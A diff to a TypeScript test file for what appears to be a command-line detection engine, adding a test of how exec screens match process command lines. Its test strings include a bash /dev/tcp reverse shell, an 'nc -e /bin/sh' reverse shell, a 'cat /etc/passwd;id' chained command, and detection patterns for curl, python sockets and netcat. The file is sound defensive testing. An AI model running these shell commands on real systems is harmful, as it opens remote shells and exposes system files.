@@ -1,7 +1,8 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import type { ProcessInfo } from '../events/model.js';
-import { ScreenAutomaton } from './screen.js';
+import { Indicators } from '../indicators/indicators.js';
+import { ExecScreens, ScreenAutomaton } from './screen.js';
 
 const automaton = new ScreenAutomaton(
   [
@@ -94,4 +95,27 @@ test('whole words match only between boundaries, however the word is quoted or r
   assert.deepEqual(hit('cat /etc/passwd;id'), [1]);
   assert.deepEqual(hit('cat /etc/passwdx'), []);
   assert.deepEqual(hit('bash -i >& /dev/tcp/1.2.3.4/80 0>&1'), [2], 'substrings still match across boundaries');
+});
+
+test('ExecScreens settles per detection: a string, all groups of an entry, or a screen that cannot vouch for the text', () => {
+  const indicators = new Indicators();
+  const screens = new ExecScreens(
+    [
+      { anyOf: ['curl'] },
+      { allOf: [[['python'], ['socket']], [{ words: ['nc'] }, ['-e']]] },
+      { anyOf: ['never-in-any-text'], openWhen: () => true },
+      undefined,
+    ],
+    indicators,
+  );
+  const passing = (commandLine: string) => {
+    screens.scan({ kind: 'process.exec', id: 'x', time: 0, source: 'vigil', node: 'n', process: proc(commandLine), ancestors: [] });
+    return [0, 1, 2, 3].filter((i) => screens.textPasses(i));
+  };
+  assert.deepEqual(passing('curl -s http://x'), [0, 2, 3]);
+  assert.deepEqual(passing('python3 -c print(1)'), [2, 3], 'one group of an entry is not enough');
+  assert.deepEqual(passing('python3 -c import socket'), [1, 2, 3]);
+  assert.deepEqual(passing('nc -e /bin/sh 10.0.0.1 4444'), [1, 2, 3]);
+  assert.deepEqual(passing('sync -e'), [2, 3], 'nc as a whole word only');
+  assert.deepEqual(passing('ls'), [2, 3]);
 });
